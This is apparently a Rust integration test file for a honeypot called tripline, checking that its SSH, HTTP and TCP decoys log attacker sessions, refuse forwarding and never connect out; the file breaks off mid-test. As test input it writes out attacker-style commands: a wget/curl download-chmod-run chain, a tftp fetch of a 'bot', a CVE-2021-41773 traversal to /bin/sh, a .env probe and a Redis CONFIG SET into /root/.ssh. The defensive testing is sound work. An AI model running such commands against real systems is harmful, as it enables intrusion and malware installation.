//! The SSH honeypot inside `tripline run`, driven by real clients: OpenSSH's `ssh` (with modern
//! and with old algorithms) and paramiko. Every attempt is recorded (Cowrie JSON and pipeline
//! events), the fake shell answers, port forwarding is refused, and nothing ever leaves the
//! honeypot: a loopback listener named in `wget`/`curl` must see no connection.

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn daemon(dir: &Path, extra: &str) -> (common::Daemon, u16) {
    let (cfg, _log) = common::watch_config(
        dir,
        &format!(
            "[api]\nenabled = false\n[output]\nstdout_json = true\n[detect]\nignore_self = false\n\
             [honeypot]\ncowrie_log = {:?}\n[honeypot.ssh]\nenabled = true\nbind = \"127.0.0.1:0\"\n\
             auth_delay_ms = 50\n{extra}",
            dir.join("cowrie.json").display().to_string()
        ),
    );
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tripline"));
    cmd.arg("-c").arg(&cfg).arg("run");
    let d = common::start_command_with(cmd, "honeypot_ssh=");
    let port = d
        .api
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("no honeypot port in {:?}", d.api));
    (d, port)
}

/// OpenSSH's `program` (`ssh`, `sftp`) set to log in with `password` through SSH_ASKPASS: no
/// config file, host key checks or keys, one password prompt, and `BatchMode=no` first (`sftp
/// -b` adds `BatchMode=yes`, which forbids the prompt; ssh keeps an option's first value).
fn openssh(program: &str, dir: &Path, password: &str) -> Command {
    let askpass = dir.join(format!("askpass-{}", password.len()));
    std::fs::write(
        &askpass,
        format!("#!/bin/sh\nprintf '%s\\n' '{password}'\n"),
    )
    .unwrap();
    std::process::Command::new("chmod")
        .args(["755", askpass.to_str().unwrap()])
        .status()
        .unwrap();
    let mut c = Command::new(program);
    c.args(["-F", "/dev/null"]);
    for o in [
        "BatchMode=no",
        "StrictHostKeyChecking=no",
        "UserKnownHostsFile=/dev/null",
        "PreferredAuthentications=password",
        "PubkeyAuthentication=no",
        "NumberOfPasswordPrompts=1",
        "ConnectTimeout=10",
        "LogLevel=ERROR",
    ] {
        c.args(["-o", o]);
    }
    c.env("SSH_ASKPASS", &askpass)
        .env("SSH_ASKPASS_REQUIRE", "force")
        .env("DISPLAY", ":0")
        .stdin(Stdio::null());
    c
}

/// OpenSSH's `ssh` logging in with `password` (through SSH_ASKPASS) and running `cmd`.
fn ssh(dir: &Path, port: u16, user: &str, password: &str, extra: &[&str], cmd: &str) -> Output {
    openssh("ssh", dir, password)
        .args(["-p", &port.to_string()])
        .args(extra)
        .arg(format!("{user}@127.0.0.1"))
        .arg(cmd)
        .output()
        .unwrap()
}

/// `script` run by the Python with paramiko (`TRIPLINE_PYTHON`, which scripts/check sets): its
/// output, once it succeeded.
fn python(script: &str) -> String {
    let Some(python) = std::env::var_os("TRIPLINE_PYTHON") else {
        panic!("TRIPLINE_PYTHON must name a Python with paramiko (scripts/check sets it)");
    };
    let out = Command::new(python).arg("-c").arg(script).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    text
}

/// The Cowrie JSON lines written so far, waiting until `want` lines match `pred`.
fn cowrie_lines(
    dir: &Path,
    pred: impl Fn(&serde_json::Value) -> bool,
    want: usize,
) -> Vec<serde_json::Value> {
    let end = Instant::now() + Duration::from_secs(10);
    loop {
        let text = std::fs::read_to_string(dir.join("cowrie.json")).unwrap_or_default();
        let all: Vec<serde_json::Value> = text
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
            .collect();
        let hits: Vec<_> = all.iter().filter(|v| pred(v)).cloned().collect();
        if hits.len() >= want || Instant::now() > end {
            return hits;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The first alert printed within 10 s that `pred` accepts.
fn wait_alert_where(
    d: &common::Daemon,
    pred: impl Fn(&serde_json::Value) -> bool,
) -> serde_json::Value {
    wait_alerts_where(d, &[&pred]).remove(0)
}

/// For each of `preds`, the first alert printed within 10 s that it accepts, whatever order
/// they come in (alerts of one batch are printed in no set order).
fn wait_alerts_where(
    d: &common::Daemon,
    preds: &[&dyn Fn(&serde_json::Value) -> bool],
) -> Vec<serde_json::Value> {
    let mut found: Vec<Option<serde_json::Value>> = vec![None; preds.len()];
    let end = Instant::now() + Duration::from_secs(10);
    while found.iter().any(Option::is_none) {
        let Some(left) = end.checked_duration_since(Instant::now()) else {
            break;
        };
        let Ok(a) = d.alerts.recv_timeout(left) else {
            break;
        };
        for (f, p) in found.iter_mut().zip(preds) {
            if f.is_none() && p(&a) {
                *f = Some(a.clone());
            }
        }
    }
    found
        .into_iter()
        .enumerate()
        .map(|(i, f)| f.unwrap_or_else(|| panic!("no alert for the {i}th condition within 10 s")))
        .collect()
}

/// A loopback listener that must never be connected to: what it saw, checked at the end.
struct Trap(TcpListener);

impl Trap {
    fn new() -> Trap {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        Trap(l)
    }
    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }
    fn assert_untouched(&self) {
        match self.0.accept() {
            Ok((mut s, peer)) => {
                let mut b = vec![];
                let _ = s.read_to_end(&mut b);
                panic!(
                    "the honeypot connected out to the trap from {peer}: {:?}",
                    String::from_utf8_lossy(&b)
                );
            }
            Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
        }
    }
}

#[test]
fn openssh_logs_in_runs_commands_and_every_attempt_is_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let (d, port) = daemon(dir.path(), "credentials = [\"root:letmein\"]\n");
    let trap = Trap::new();

    // a wrong password: refused, recorded with the client's version and HASSH
    let bad = ssh(dir.path(), port, "root", "wrong", &[], "id");
    assert!(!bad.status.success(), "{bad:?}");
    let failed = cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.login.failed", 1);
    assert_eq!(failed[0]["username"], "root");
    assert_eq!(failed[0]["password"], "wrong");
    assert_eq!(failed[0]["src_ip"], "127.0.0.1");
    assert_eq!(failed[0]["dst_port"], port);
    assert!(failed[0]["version"]
        .as_str()
        .unwrap()
        .starts_with("SSH-2.0-OpenSSH"));
    assert_eq!(failed[0]["hassh"].as_str().unwrap().len(), 32);

    // the right one: the fake shell answers, downloads are recorded and never made
    let cmd = format!(
        "uname -a; id; w -h; cd /tmp && wget http://127.0.0.1:{p}/x.sh; curl -s -O http://127.0.0.1:{p}/y; ls /tmp; chmod +x x.sh; ./x.sh",
        p = trap.port()
    );
    let ok = ssh(dir.path(), port, "root", "letmein", &[], &cmd);
    let out = String::from_utf8_lossy(&ok.stdout);
    assert!(out.contains("Linux"), "{out}");
    assert!(out.contains("uid=0(root)"), "{out}");
    // `w` shows the attacker's own login, from where it really comes
    assert!(
        out.lines()
            .any(|l| l.starts_with("root") && l.contains("127.0.0.1")),
        "{out}"
    );
    // wget and curl said what real ones say when the network fails, and made no file
    assert!(out.contains("failed: Connection refused."), "{out}");
    assert!(
        !out.lines().any(|l| l.trim() == "x.sh" || l.trim() == "y"),
        "nothing was downloaded: {out}"
    );
    let downloads = cowrie_lines(
        dir.path(),
        |v| v["eventid"] == "cowrie.session.file_download.failed",
        2,
    );
    let urls: Vec<&str> = downloads.iter().filter_map(|v| v["url"].as_str()).collect();
    assert!(urls.iter().any(|u| u.ends_with("/x.sh")), "{urls:?}");
    assert!(urls.iter().any(|u| u.ends_with("/y")), "{urls:?}");
    let cmds = cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.command.input", 1);
    assert!(cmds
        .iter()
        .any(|v| v["input"].as_str().unwrap().contains("uname -a")));

    // the algorithms old bots use: group14-sha1, aes128-cbc, hmac-sha1, an RSA host key
    let old = ssh(
        dir.path(),
        port,
        "root",
        "letmein",
        &[
            "-o",
            "KexAlgorithms=diffie-hellman-group14-sha1",
            "-o",
            "Ciphers=aes128-cbc",
            "-o",
            "MACs=hmac-sha1",
            "-o",
            "HostKeyAlgorithms=ssh-rsa",
        ],
        "whoami",
    );
    assert_eq!(
        String::from_utf8_lossy(&old.stdout).trim(),
        "root",
        "{old:?}"
    );

    // stdio forwarding (direct-tcpip): refused and recorded
    let fwd = ssh(
        dir.path(),
        port,
        "root",
        "letmein",
        &["-W", &format!("127.0.0.1:{}", trap.port())],
        "",
    );
    assert!(!fwd.status.success());
    let proxy = cowrie_lines(
        dir.path(),
        |v| v["eventid"] == "cowrie.direct-tcpip.request",
        1,
    );
    assert_eq!(proxy[0]["dst_port"], trap.port());

    // the pipeline raised the honeypot alerts: a transfer on the address, and the session whose
    // download, chmod and run tripped the tripwires, with the techniques of what it did
    let found = wait_alerts_where(
        &d,
        &[
            &|a| {
                a["rule"] == "honeypot.download"
                    && a["explanation"].to_string().contains("(not fetched)")
            },
            &|a| a["rule"] == "honeypot.session" && a["severity"] == "critical",
        ],
    );
    let (a, s) = (&found[0], &found[1]);
    assert_eq!(a["src_ip"], "127.0.0.1");
    assert_eq!(a["severity"], "critical", "after a login: {a}");
    let t = s["techniques"].to_string();
    assert!(t.contains("T1105") && t.contains("T1059.004"), "{s}");
    assert!(!t.contains("T1098.004"), "only what happened: {s}");
    trap.assert_untouched();
    d.sigterm();
}

#[test]
fn paramiko_gets_a_shell_with_a_pty_and_its_proxy_request_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let (d, port) = daemon(dir.path(), "accept_after = 2\n");
    let trap = Trap::new();
    let script = format!(
        r#"
import paramiko, time, sys
def connect(pw):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", port={port}, username="admin", password=pw, look_for_keys=False, allow_agent=False, timeout=10)
    return c
try:
    connect("first")
    print("FIRST-ACCEPTED")
except paramiko.AuthenticationException:
    print("first refused")
c = connect("second")
ch = c.invoke_shell(term="xterm", width=80, height=24)
def read_until(token, t=10):
    buf = b""
    end = time.time() + t
    while time.time() < end and token not in buf:
        if ch.recv_ready():
            buf += ch.recv(65536)
        else:
            time.sleep(0.02)
    return buf.decode("utf-8", "replace")
print("PROMPT", read_until(b"$ ") != "")
ch.send("cd /tmp\n"); read_until(b"$ ")
ch.send("echo hello-from-paramiko > note.txt\n"); read_until(b"$ ")
ch.send("cat note.txt\n"); print("CAT", read_until(b"$ "))
ch.send("tftp -g -r bot 127.0.0.1 {trap}\n"); read_until(b"$ ")
stdin, stdout, stderr = c.exec_command("hostname")
print("HOSTNAME", stdout.read().decode().strip())
try:
    c.get_transport().open_channel("direct-tcpip", ("127.0.0.1", {trap}), ("127.0.0.1", 5555), timeout=10)
    print("PROXY-OPENED")
except Exception as e:
    print("proxy refused", type(e).__name__)
ch.send("exit\n"); time.sleep(0.2)
c.close()
"#,
        port = port,
        trap = trap.port()
    );
    let text = python(&script);
    assert!(text.contains("first refused"), "{text}");
    assert!(text.contains("PROMPT True"), "{text}");
    assert!(text.contains("hello-from-paramiko"), "{text}");
    assert!(text.contains("proxy refused"), "{text}");
    assert!(
        !text.contains("PROXY-OPENED") && !text.contains("FIRST-ACCEPTED"),
        "{text}"
    );
    let hostname = text
        .lines()
        .find_map(|l| l.strip_prefix("HOSTNAME "))
        .unwrap_or("");
    assert!(!hostname.is_empty() && hostname != "svr04", "{text}");
    let ok = cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.login.success", 1);
    assert_eq!(ok[0]["username"], "admin");
    assert_eq!(ok[0]["password"], "second");
    assert!(
        ok[0]["version"].as_str().unwrap().contains("paramiko"),
        "{}",
        ok[0]
    );
    let dl = cowrie_lines(
        dir.path(),
        |v| v["eventid"] == "cowrie.session.file_download.failed",
        1,
    );
    assert!(!dl.is_empty(), "tftp was recorded");
    // the proxy request is its own alert, naming where to
    let px = wait_alert_where(&d, |a| a["rule"] == "honeypot.proxy");
    assert!(
        px["explanation"]
            .to_string()
            .contains(&format!("127.0.0.1:{}", trap.port())),
        "{px}"
    );
    assert_eq!(px["techniques"][0], "T1090", "{px}");
    trap.assert_untouched();
    d.sigterm();
}

/// An address seen on the honeypot is marked: its later requests to the LLM gateway (of the
/// same daemon) raise `honeypot.returned`, which says when it was on the honeypot.
#[test]
fn an_address_seen_on_the_honeypot_shows_on_its_llm_gateway_requests() {
    let dir = tempfile::tempdir().unwrap();
    let gw = TcpListener::bind("127.0.0.1:0").unwrap();
    let gw_port = gw.local_addr().unwrap().port();
    drop(gw);
    let (d, port) = daemon(
        dir.path(),
        &format!(
            "credentials = [\"root:letmein\"]\n[gateway]\nenabled = true\nbind = \"127.0.0.1:{gw_port}\"\nupstream = \"http://127.0.0.1:9\"\n"
        ),
    );
    let out = ssh(dir.path(), port, "root", "wrong", &[], "id");
    assert!(!out.status.success());
    cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.login.failed", 1);
    let (code, body) = curl(&[
        "-X",
        "POST",
        "-H",
        "content-type: application/json",
        "-d",
        r#"{"text":"What is the capital of France?"}"#,
        &format!("http://127.0.0.1:{gw_port}/v1/scan"),
    ]);
    assert_eq!(code, "200", "{body}");
    let a = wait_alert_where(&d, |a| a["rule"] == "honeypot.returned");
    let why = a["explanation"].to_string();
    assert!(
        why.contains("sent a request to the LLM gateway") && why.contains("on a honeypot from"),
        "{a}"
    );
    assert_eq!(a["src_ip"], "127.0.0.1");
    d.sigterm();
}

/// Bytes read from `s` until it closes or `within` passes: whether it closed.
fn closed_within(s: &mut std::net::TcpStream, within: Duration) -> bool {
    s.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let end = Instant::now() + within;
    let mut buf = [0u8; 4096];
    while Instant::now() < end {
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => return true,
        }
    }
    false
}

/// Hostile SSH input: a packet claiming 4 GB after a valid version line and an HTTP request
/// instead of a version line are protocol errors; a client that connects and says nothing is
/// closed when it goes idle (before any handshake); in a shell, a 1 MB line is cut at the cap
/// and binary and escape bytes are taken as input (all but ^C and ^D, which end the line and
/// the session as in bash). Each is closed or cut, counted as a limit
/// in the Cowrie log, and the decoy goes on serving: the shell answers after them and a new
/// client still logs in.
#[test]
fn malformed_packets_a_silent_client_and_huge_or_binary_lines_are_capped_and_counted() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let (d, port) = daemon(
        dir.path(),
        "credentials = [\"root:letmein\"]\nidle_timeout_seconds = 1\n",
    );
    let connect = || std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    // a valid version line, then a packet length of 4 GB
    let mut s = connect();
    s.write_all(b"SSH-2.0-OpenSSH_9.2p1\r\n\xff\xff\xff\xf0\x00\x00\x00\x00")
        .unwrap();
    assert!(
        closed_within(&mut s, Duration::from_secs(5)),
        "oversized packet"
    );
    // not SSH at all
    let mut s = connect();
    s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    assert!(
        closed_within(&mut s, Duration::from_secs(5)),
        "an HTTP request"
    );
    // silent
    let mut s = connect();
    let t = Instant::now();
    assert!(
        closed_within(&mut s, Duration::from_secs(8)),
        "a silent client"
    );
    assert!(
        t.elapsed() >= Duration::from_millis(900),
        "{:?}",
        t.elapsed()
    );

    // a 1 MB line, then binary and escape bytes, then a command that must still run
    let script = r##"
import paramiko, time
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", {port}, username="root", password="letmein", allow_agent=False, look_for_keys=False)
ch = c.invoke_shell()
def read(until, t=10):
    out = b""
    end = time.time() + t
    while until not in out and time.time() < end:
        if ch.recv_ready():
            out += ch.recv(65536)
        else:
            time.sleep(0.02)
    return out
read(b"# ")
ch.sendall(b"A" * (1 << 20) + b"\r")
read(b"# ", 20)
ch.sendall(b"echo " + bytes(range(5, 256)) + b"\x00\x07\x1b[A\x1b[3~\r")
read(b"# ")
ch.sendall(b"echo still-$((40+2))\r")
print(read(b"still-42").decode("utf-8", "replace")[-200:])
"##
    .replace("{port}", &port.to_string());
    let text = python(&script);
    assert!(text.contains("still-42"), "{text}");
    // a real client still gets in
    let ok = ssh(dir.path(), port, "root", "letmein", &[], "echo fine");
    assert!(
        String::from_utf8_lossy(&ok.stdout).contains("fine"),
        "{ok:?}"
    );

    let limits = |what: &str| {
        cowrie_lines(
            dir.path(),
            |v| v["eventid"] == "tripline.session.limit" && v["limit"] == what,
            1,
        )
        .len()
    };
    assert!(limits("protocol") >= 2, "oversized packet and not SSH");
    assert!(limits("idle") >= 1, "the silent client");
    assert!(limits("line") >= 1, "the 1 MB line");
    d.sigterm();
}

/// What the decoys count is there for the metrics (`tripline_honeypot_total`): connections,
/// logins, and each limit's refusals, read from the running decoys.
#[test]
fn the_decoys_counters_count_connections_logins_and_refusals() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let cfg = tripline::config::Config::parse(
        &format!(
            "data_dir = {:?}\n[honeypot.ssh]\nenabled = true\nbind = \"127.0.0.1:0\"\n\
             auth_delay_ms = 0\nmax_connections_per_ip = 1\n",
            dir.path().display().to_string()
        ),
        "test",
    )
    .unwrap();
    let h = tripline::honeypot::start(&cfg, None).unwrap();
    let addr = h.ssh.unwrap();
    let counters = h.counters();
    let get = |what: &str| {
        counters()
            .into_iter()
            .find(|(d, c, _)| d == "ssh" && *c == what)
            .map(|(_, _, n)| n)
            .unwrap()
    };
    // one connection held, a second from the same address refused by the per-address cap
    let mut first = std::net::TcpStream::connect(addr).unwrap();
    first.write_all(b"SSH-2.0-OpenSSH_9.2p1\r\n").unwrap();
    std::thread::sleep(Duration::from_millis(200));
    let mut second = std::net::TcpStream::connect(addr).unwrap();
    assert!(closed_within(&mut second, Duration::from_secs(5)));
    let end = Instant::now() + Duration::from_secs(5);
    while get("refused_per_ip") < 1 && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(get("refused_per_ip"), 1);
    assert_eq!(get("connections"), 2);
    assert_eq!(get("logins_failed"), 0);
    drop(first);
    h.stop();
}

fn curl(args: &[&str]) -> (String, String) {
    let out = Command::new("curl")
        .args(["-s", "--path-as-is", "-m", "10", "-w", "\n%{http_code}"])
        .args(args)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or((&text, ""));
    (code.to_owned(), body.to_owned())
}

#[test]
fn curl_against_the_http_decoy_logins_exploits_and_limits() {
    let dir = tempfile::tempdir().unwrap();
    let (cfg, _log) = common::watch_config(
        dir.path(),
        &format!(
            "[api]\nenabled = false\n[output]\nstdout_json = true\n[detect]\nignore_self = false\n\
             [honeypot]\ncowrie_log = {:?}\n[honeypot.http]\nenabled = true\nbind = \"127.0.0.1:0\"\n\
             profile = \"wordpress\"\nheader_timeout_seconds = 1.0\n",
            dir.path().join("cowrie.json").display().to_string()
        ),
    );
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tripline"));
    cmd.arg("-c").arg(&cfg).arg("run");
    let d = common::start_command_with(cmd, "honeypot_http=http://");
    let base = format!("http://{}", d.api);

    let (code, page) = curl(&[&format!("{base}/")]);
    assert_eq!(code, "200");
    assert!(
        page.contains("name=\"pwd\"") && page.contains("WordPress"),
        "{page}"
    );
    // credentials posted six times: each recorded, and the brute-force rule sshd feeds fires
    for i in 0..6 {
        let (code, page) = curl(&[
            "-A",
            "Mozilla/5.0",
            "-d",
            &format!("log=admin&pwd=guess{i}&wp-submit=Log+In"),
            &format!("{base}/wp-login.php"),
        ]);
        assert_eq!(code, "200");
        assert!(page.contains("login_error"), "{page}");
    }
    let logins = cowrie_lines(
        dir.path(),
        |v| v["eventid"] == "cowrie.login.failed" && v["protocol"] == "http",
        6,
    );
    assert_eq!(logins.len(), 6);
    assert_eq!(logins[5]["username"], "admin");
    assert_eq!(logins[5]["password"], "guess5");
    d.wait_alert("ssh.bruteforce", "127.0.0.1");

    // an exploit attempt: named by its CVE, alerted
    let (code, _) = curl(&[
        "-A",
        "Mozilla/5.0",
        &format!("{base}/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    ]);
    assert_eq!(code, "404");
    let ex = cowrie_lines(dir.path(), |v| v["class"] == "exploit", 1);
    assert_eq!(ex[0]["detail"], "CVE-2021-41773");
    assert_eq!(ex[0]["eventid"], "tripline.http.request");
    let a = d.wait_alert("honeypot.exploit", "127.0.0.1");
    assert!(a["techniques"].to_string().contains("T1190"), "{a}");
    // a scanner probing for secrets
    let (code, _) = curl(&["-A", "zgrab/0.x", &format!("{base}/.env")]);
    assert_eq!(code, "403");
    let probe = cowrie_lines(dir.path(), |v| v["detail"] == "dotenv", 1);
    assert_eq!(probe[0]["class"], "scanner");

    // a 100 KB header is refused, a head sent too slowly is cut; the decoy keeps serving
    for n in [40_000, 300_000] {
        let file = dir.path().join(format!("header-{n}"));
        std::fs::write(&file, format!("X-Junk: {}\n", "a".repeat(n))).unwrap();
        let (code, _) = curl(&["-H", &format!("@{}", file.display()), &format!("{base}/")]);
        assert_eq!(code, "431", "a {n}-byte header");
    }
    let mut slow = std::net::TcpStream::connect(&d.api).unwrap();
    std::io::Write::write_all(&mut slow, b"GET / HTTP/1.1\r\nHost: x\r\n").unwrap();
    slow.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let t = Instant::now();
    let mut rest = vec![];
    let _ = slow.read_to_end(&mut rest);
    assert!(
        t.elapsed() < Duration::from_secs(4),
        "the slow head was cut after its timeout"
    );
    let (code, _) = curl(&[&format!("{base}/robots.txt")]);
    assert_eq!(code, "200");
    d.sigterm();
}

/// `nc` sending `input` (stdin closes after it; nc waits `wait` seconds for answers).
fn nc(port: u16, input: &[u8], wait: u32) -> String {
    use std::io::Write;
    let mut c = Command::new("nc")
        .args([
            "-q",
            &wait.to_string(),
            "-w",
            "5",
            "127.0.0.1",
            &port.to_string(),
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    c.stdin.take().unwrap().write_all(input).unwrap();
    let out = c.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn nc_against_the_tcp_decoys_records_the_logins() {
    let dir = tempfile::tempdir().unwrap();
    let tcp: String = ["telnet", "redis", "ftp", "mysql", "banner"]
        .iter()
        .map(|p| {
            format!(
                "[[honeypot.tcp]]\nbind = \"127.0.0.1:0\"\nprofile = \"{p}\"\nbanner = \"SSH-1.99-Cisco-1.25\\r\\n\"\nreply = \"Protocol mismatch.\\n\"\n"
            )
        })
        .collect();
    let (cfg, _log) = common::watch_config(
        dir.path(),
        &format!(
            "[api]\nenabled = false\n[output]\nstdout_json = true\n[detect]\nignore_self = false\n[honeypot]\ncowrie_log = {:?}\n{tcp}",
            dir.path().join("cowrie.json").display().to_string()
        ),
    );
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tripline"));
    cmd.arg("-c").arg(&cfg).arg("run");
    let d = common::start_command_with(cmd, "honeypot_tcp=");
    let ports: Vec<u16> = d
        .api
        .split(',')
        .map(|a| a.rsplit(':').next().unwrap().parse().unwrap())
        .collect();
    assert_eq!(ports.len(), 5, "{}", d.api);

    let telnet = nc(ports[0], b"root\r\nhunter2\r\n", 2);
    assert!(
        telnet.contains("login: ") && telnet.contains("Password: "),
        "{telnet:?}"
    );
    assert!(telnet.contains("Login incorrect"), "{telnet:?}");
    let redis = nc(
        ports[1],
        b"PING\r\n*2\r\n$4\r\nAUTH\r\n$7\r\nfoobar1\r\nCONFIG SET dir /root/.ssh\r\n",
        1,
    );
    assert!(redis.starts_with("+PONG\r\n-WRONGPASS"), "{redis:?}");
    let ftp = nc(ports[2], b"USER anonymous\r\nPASS me@x.org\r\nQUIT\r\n", 2);
    assert!(
        ftp.starts_with("220 ") && ftp.contains("530 Login incorrect."),
        "{ftp:?}"
    );
    let banner = nc(ports[4], b"hello\n", 1);
    assert_eq!(banner, "SSH-1.99-Cisco-1.25\r\nProtocol mismatch.\n");

    // MySQL: the greeting, then a client's login packet for user "sa"
    let mut s = std::net::TcpStream::connect(("127.0.0.1", ports[3])).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut greet = [0u8; 256];
    let n = s.read(&mut greet).unwrap();
    assert!(n > 10 && greet[4] == 10, "protocol 10 greeting");
    let mut body = vec![0u8; 32];
    body.extend_from_slice(b"sa\0");
    body.push(20);
    body.extend_from_slice(&[7u8; 20]);
    let mut pkt = vec![body.len() as u8, 0, 0, 1];
    pkt.extend_from_slice(&body);
    std::io::Write::write_all(&mut s, &pkt).unwrap();
    let mut err = vec![];
    let _ = s.read_to_end(&mut err);
    assert!(
        String::from_utf8_lossy(&err).contains("Access denied for user 'sa'"),
        "{err:?}"
    );

    let logins = cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.login.failed", 4);
    let by = |proto: &str| {
        logins
            .iter()
            .find(|v| v["protocol"] == proto)
            .unwrap_or_else(|| panic!("no {proto} login in {logins:?}"))
            .clone()
    };
    assert_eq!(
        (
            by("telnet")["username"].clone(),
            by("telnet")["password"].clone()
        ),
        ("root".into(), "hunter2".into())
    );
    assert_eq!(by("redis")["password"], "foobar1");
    assert_eq!(
        (by("ftp")["username"].clone(), by("ftp")["password"].clone()),
        ("anonymous".into(), "me@x.org".into())
    );
    assert_eq!(by("mysql")["username"], "sa");
    let cmds = cowrie_lines(
        dir.path(),
        |v| v["eventid"] == "cowrie.command.input" && v["protocol"] == "redis",
        1,
    );
    assert!(
        cmds[0]["input"]
            .as_str()
            .unwrap()
            .contains("CONFIG SET dir"),
        "{cmds:?}"
    );
    d.sigterm();
}

#[test]
fn sftp_uploads_from_openssh_and_paramiko_are_kept_and_recorded_with_their_sha256() {
    /// SHA-256 (hex) of a file, by coreutils.
    fn sha256_file(path: &Path) -> String {
        let out = Command::new("sha256sum").arg(path).output().unwrap();
        String::from_utf8_lossy(&out.stdout)
            .split_whitespace()
            .next()
            .unwrap_or_default()
            .to_owned()
    }
    let dir = tempfile::tempdir().unwrap();
    let (d, port) = daemon(dir.path(), "credentials = [\"root:letmein\"]\n");

    // OpenSSH's sftp with a batch file: a dropper put, listed, changed, read back
    let dropper = dir.path().join("dropper.sh");
    let mut bytes = b"#!/bin/sh\n# dropped over sftp\n".to_vec();
    bytes.extend((0..70_000u32).map(|i| (i * 7 % 251) as u8));
    std::fs::write(&dropper, &bytes).unwrap();
    let back = dir.path().join("back.sh");
    let batch = dir.path().join("batch");
    std::fs::write(
        &batch,
        format!(
            "cd /tmp\nput {} dropper.sh\nls -l\nchmod 755 dropper.sh\nmkdir .cache\n\
             rename dropper.sh .cache/d\nget .cache/d {}\nls -l /tmp/.cache\n",
            dropper.display(),
            back.display()
        ),
    )
    .unwrap();
    let out = openssh("sftp", dir.path(), "letmein")
        .args(["-P", &port.to_string()])
        .arg("-b")
        .arg(&batch)
        .arg("root@127.0.0.1")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let listed = text
        .lines()
        .find(|l| !l.starts_with("sftp>") && l.ends_with(" dropper.sh"))
        .unwrap_or_else(|| panic!("no dropper.sh in ls -l: {text}"));
    assert!(
        listed.starts_with("-rw-r--r--") && listed.contains(&format!(" {} ", bytes.len())),
        "{listed}"
    );
    assert!(
        text.lines()
            .any(|l| l.starts_with("-rwxr-xr-x") && l.ends_with(" d")),
        "chmod and rename took: {text}"
    );
    assert_eq!(
        std::fs::read(&back).unwrap(),
        bytes,
        "get gives back the put"
    );

    // paramiko's SFTPClient: put, listdir, stat
    let payload = dir.path().join("p.bin");
    let elf = b"\x7fELF\x02\x01\x01 paramiko payload";
    std::fs::write(&payload, elf).unwrap();
    let script = format!(
        r#"
import paramiko
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", port={port}, username="root", password="letmein", look_for_keys=False, allow_agent=False, timeout=10)
s = c.open_sftp()
print("CWD", s.normalize("."))
s.put({local:?}, "/tmp/p.bin")
print("LIST", " ".join(sorted(s.listdir("/tmp"))))
st = s.stat("/tmp/p.bin")
print("STAT", st.st_size, oct(st.st_mode))
try:
    s.stat("/tmp/nope")
except IOError as e:
    print("NOPE", type(e).__name__)
s.close()
c.close()
"#,
        local = payload.display().to_string()
    );
    let text = python(&script);
    assert!(text.contains("CWD /root"), "{text}");
    let list = text
        .lines()
        .find_map(|l| l.strip_prefix("LIST "))
        .unwrap_or("");
    // its own upload, not the other session's (each connection has its own overlay)
    assert!(
        list.split(' ').any(|n| n == "p.bin") && !list.split(' ').any(|n| n == ".cache"),
        "{text}"
    );
    assert!(
        text.contains(&format!("STAT {} 0o100644", elf.len())),
        "{text}"
    );
    assert!(text.contains("NOPE FileNotFoundError"), "{text}");

    // both uploads recorded as scp's are: the name, the size, the SHA-256 of the real bytes
    let ups = cowrie_lines(
        dir.path(),
        |v| v["eventid"] == "cowrie.session.file_upload",
        2,
    );
    let up = |name: &str| {
        ups.iter()
            .find(|v| v["filename"] == name)
            .unwrap_or_else(|| panic!("no upload of {name} in {ups:?}"))
            .clone()
    };
    let (a, b) = (up("/tmp/dropper.sh"), up("/tmp/p.bin"));
    assert_eq!(a["shasum"], sha256_file(&dropper));
    assert_eq!(a["size"], bytes.len());
    assert_eq!(b["shasum"], sha256_file(&payload));
    assert_eq!(a["src_ip"], "127.0.0.1");
    // the changes, as commands
    let cmds = cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.command.input", 7);
